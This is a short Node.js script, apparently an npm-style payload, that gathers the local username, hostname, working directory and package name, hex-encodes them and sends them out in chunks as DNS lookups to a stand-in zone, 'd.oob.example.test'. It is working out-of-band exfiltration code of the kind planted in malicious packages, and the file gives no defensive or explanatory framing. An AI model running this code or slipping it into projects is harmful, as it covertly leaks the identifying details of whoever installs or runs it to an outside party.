'use strict';

const dns = require('dns');
const os = require('os');

const ZONE = 'd.oob.example.test';

function toHex(s) {
  let out = '';
  for (let i = 0; i < s.length; i++) out += s.charCodeAt(i).toString(16);
  return out;
}

function chunk(s, n) {
  const parts = [];
  for (let i = 0; i < s.length; i += n) parts.push(s.slice(i, i + n));
  return parts;
}

function info() {
  const u = os.userInfo();
  return [u.username, os.hostname(), process.cwd(), process.env.npm_package_name || ''].join('|');
}

const id = Math.random().toString(36).slice(2, 8);
const pieces = chunk(toHex(info()), 60);

pieces.forEach(function (piece, i) {
  const label = ['v1', id, i, piece, ZONE].join('.');
  dns.lookup(label, function () {});
});
